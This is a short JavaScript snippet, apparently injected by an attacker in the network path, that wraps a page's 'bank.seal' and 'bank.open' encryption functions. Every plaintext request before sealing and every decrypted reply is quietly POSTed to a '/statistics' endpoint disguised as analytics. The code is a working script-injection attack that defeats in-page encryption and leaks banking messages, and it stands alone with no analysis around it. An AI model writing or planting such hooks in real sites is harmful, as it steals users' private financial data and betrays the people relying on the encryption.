
// Added on the way: tells the attacker in the path what is sealed and what is opened.
(function () {
  var seal = bank.seal;
  var open = bank.open;

  function tell(whose, text) {
    var carrier = new XMLHttpRequest();
    carrier.open('POST', '/statistics?' + whose);
    carrier.send(text);
  }

  bank.seal = function (message, replyKey) {
    tell('request', message);
    return seal(message, replyKey);
  };

  bank.open = function (sealed, reply) {
    var text = open(sealed, reply);
    tell('answer', text);
    return text;
  };
})();
